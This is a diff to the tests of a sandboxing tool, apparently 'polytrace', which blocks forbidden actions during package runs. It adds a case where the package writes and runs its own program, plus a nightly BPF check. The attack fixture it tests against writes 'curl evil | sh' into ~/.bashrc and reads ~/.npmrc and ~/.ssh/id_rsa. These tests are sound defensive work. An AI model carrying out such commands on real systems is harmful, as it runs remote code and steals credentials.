@@ -36,6 +36,11 @@ attempt('npmrc', () => fs.readFileSync(home + '/.npmrc'));
 attempt('bashrc', () => fs.writeFileSync(home + '/.bashrc', 'curl evil | sh'));
 attempt('folder', () => fs.mkdirSync(home + '/.evil'));
 attempt('link', () => fs.linkSync(home + '/.profile', __dirname + '/profile'));
+attempt('program', () => {
+  fs.copyFileSync(__dirname + '/ways', __dirname + '/own');
+  const { error } = spawnSync(__dirname + '/own');
+  if (error) throw error;
+});
 attempt('chmod', () => fs.chmodSync(home + '/tool', 0o4755));
 tool('attacks', 'raw', home + '/.ssh/id_rsa', __dirname + '/package.json', home + '/tool');
 tool('attacks', 'ptrace', String(victim));
@@ -215,7 +220,8 @@ describeOnce('run: what is not allowed is refused', function () {
     startAttacks();
     const { summary, results, violations } = await follow(rebuild, { lock, enforce: true });
     assert.equal(summary.exitCode, 0);
-    assertRefused(summary, results, [...LOCKED, ...FILES, ...CONNECTIONS]);
+    // a program that the package writes itself is none of the lock file, in the working folder, too
+    assertRefused(summary, results, ['program', ...LOCKED, ...FILES, ...CONNECTIONS]);
     assert.ok(refused(summary).some((line) => /^nice exec .*\/setsid$/.test(line)));
     // each is also new against the lock file, and nothing else is but what is never refused: ordinary reads
     const isNew = new Set(violations);
@@ -270,6 +276,13 @@ describeOnce('run: what is not allowed is refused', function () {
       summary.remaining.map(({ binary, killed }) => [binary.endsWith('/sleep'), killed]),
       [[true, true]],
     );
+  });
+
+  nightly?.('a run in it cannot use BPF, and says why', async () => {
+    const inner = `"$0" ${join(checkout, 'dist/cli/main.js')} run -- true 2> inner; echo $? > status`;
+    await follow(['sh', '-c', inner, process.execPath], { enforce: { denySecrets: true } });
+    assert.equal(readFileSync(join(project, 'status'), 'utf8'), '3\n');
+    assert.match(readFileSync(join(project, 'inner'), 'utf8'), /error NOT_PERMITTED: [^]*another `polytrace run`/);
   });
 
   for (const preset of ['install', 'build', 'test'] as const) {
